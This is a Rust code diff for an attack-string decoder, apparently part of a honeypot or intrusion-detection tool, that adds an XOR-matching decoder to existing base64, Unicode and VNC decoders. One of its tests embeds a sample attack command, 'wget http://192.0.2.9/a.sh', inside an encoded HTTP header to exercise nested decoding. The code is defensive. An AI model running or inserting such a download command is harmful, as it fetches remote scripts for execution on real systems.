@@ -320,12 +320,14 @@ pub const DECODE_BUDGET: usize = 16 << 20;
 /// Most strings derived from one attack by the decoders (nested decoding included).
 pub const MAX_DERIVED: usize = 64;
 
-/// Which decoders run (`plugin-b64Decode`, `plugin-deUnicode`, `plugin-vncDownload`).
-#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+/// Which decoders run (`plugin-b64Decode`, `plugin-deUnicode`, `plugin-vncDownload`,
+/// `plugin-xmatch` with its patterns).
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
 pub struct Decoders {
     pub b64: bool,
     pub unicode: bool,
     pub vnc: bool,
+    pub xmatch: Option<std::sync::Arc<super::xmatch::Patterns>>,
 }
 
 /// The strings derived so far and what is left of the budgets.
@@ -382,6 +384,18 @@ impl Decoders {
             if let Some(keys) = vnc_keystrokes(data).filter(|k| k.len() <= d.room()) {
                 log_info!("vncDownload - Keystrokes found in VNC session, {} bytes reconstructed.", keys.len());
                 d.push(keys, data);
+            }
+        }
+        // XOR-encoded data is looked for in the original string, as the C plugin did.
+        if let Some(x) = &self.xmatch {
+            if let Some((found, decoded)) = x.decode(data) {
+                if d.push(decoded, data) {
+                    log_info!(
+                        "xmatch - Attack string is XOR-encoded with a {}-byte key (known plaintext at offset {}), decoded.",
+                        found.key.len(),
+                        found.offset
+                    );
+                }
             }
         }
         self.decode_one(data, &mut d, data);
@@ -599,7 +613,7 @@ mod tests {
         let inner = "wget http://192.0.2.9/a.sh";
         let http = format!("GET / HTTP/1.1\r\nAuthorization: Negotiate {}\r\n\r\n", base64_encode(inner.as_bytes()));
         let utf16: Vec<u8> = http.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
-        let all = Decoders { b64: true, unicode: true, vnc: true };
+        let all = Decoders { b64: true, unicode: true, vnc: true, xmatch: None };
         let none = &mut Charge::none();
         let derived = all.derive(&utf16, none);
         // UTF-16 first, then the base64 body inside it.
